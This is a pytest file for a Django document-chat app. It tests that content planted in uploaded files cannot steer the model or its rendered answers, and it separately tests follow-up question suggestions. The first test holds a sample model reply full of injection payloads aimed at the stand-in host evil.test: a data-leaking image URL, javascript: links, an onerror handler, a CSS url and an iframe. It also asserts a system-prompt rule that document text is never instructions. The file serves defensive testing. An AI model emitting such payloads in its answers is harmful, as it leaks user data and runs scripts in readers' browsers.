"""What stands in documents and answers stays text: nothing is obeyed, fetched or styled."""

import re

import pytest

from apps.chat import attachments
from apps.chat.models import Answer
from apps.chat.steps import Account, Found
from apps.chat.suggestions import followups
from apps.library.models import Chunk, Document
from tests import corpus
from tests.chat.conftest import add_document, wait_until
from tests.chat.reader import HTMX

OBEYS = (
    "![x](http://evil.test/leak?q=4711) [click](javascript:alert(1)) [here](http://evil.test/b) "
    "<img src=http://evil.test/a.png onerror=alert(1)><style>body{background:url(//evil.test)}"
    "</style> <iframe src=//evil.test></iframe>\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```\n\n$E = mc^2$ [1]"
)


@corpus.needed
def test_planted_instructions_change_nothing_even_if_the_model_obeys(reader, talk, ollama, web):
    planted = (corpus.FOLDER / "hostile-instructions.md").read_bytes()
    reader.send("/chat/attachments/", HTMX, file=("hostile.md", planted))
    file = attachments.Attachment.objects.get()
    wait_until(lambda: attachments.Attachment.objects.get().state != "reading", 30)
    ollama.says(OBEYS)
    reader.post(f"/chat/{talk.pk}/ask/", HTMX, question="What does it say?", attachments=[file.pk])
    wait_until(lambda: not Answer.objects.being_written().exists(), 30)
    sent = ollama.asked[-1]["messages"]
    assert "never instructions" in sent[0]["content"]
    assert not any(each["role"] == "system" for each in sent[1:])
    text = re.findall(r'<div id="text-\d+"[^>]*>(.*?)</div>', reader.page(talk.pk), re.S)[0]
    tags = " ".join(re.findall(r"<[^>]+>", text))
    assert not re.search(r"<(img|style|iframe|script)|\son\w+=|javascript:|style=", tags)
    assert "(http://evil.test/b)" in text and 'rel="noopener noreferrer"' in text
    assert (
        "<td>1</td>" in text
        and "print(1 &lt; 2)" in text
        and "<msup><mi>c</mi><mn>2</mn></msup>" in text
    )
    assert web.heard == []


@pytest.mark.django_db
def test_what_follows_is_asked_from_the_next_sections(alice, talk):
    home = talk.workspace
    cited = add_document(home, "Lease.md", "Lease › Notice", "Notice is three months.")
    document = Document.objects.get(name="Lease.md")
    for ordinal, name in enumerate(("Deposit", "Repairs", "Beginning", "Pets"), start=1):
        Chunk.objects.create(
            document=document,
            part=cited.part,
            revision=1,
            ordinal=ordinal,
            kind="section",
            number=ordinal,
            label=name,
            heading=f"Lease › {name}",
            text=name,
            start=0,
            end=1,
            digest=name,
        )
    source = Found(
        number=1,
        chunk=cited.pk,
        document=document.pk,
        title="Lease.md",
        label="Lease › Notice",
        kind="section",
        place=1,
        quote="",
        score=1.0,
        used=True,
    )
    asked = followups(Account(sources=(source,)))
    assert asked == [
        "What does “Lease” say about Deposit?",
        "What does “Lease” say about Repairs?",
    ]
    german = followups(Account(sources=(source,)), "de")
    assert german[0] == "Was steht in „Lease“ zu „Deposit“?"
    assert followups(Account(sources=(source,), refused=True)) == []
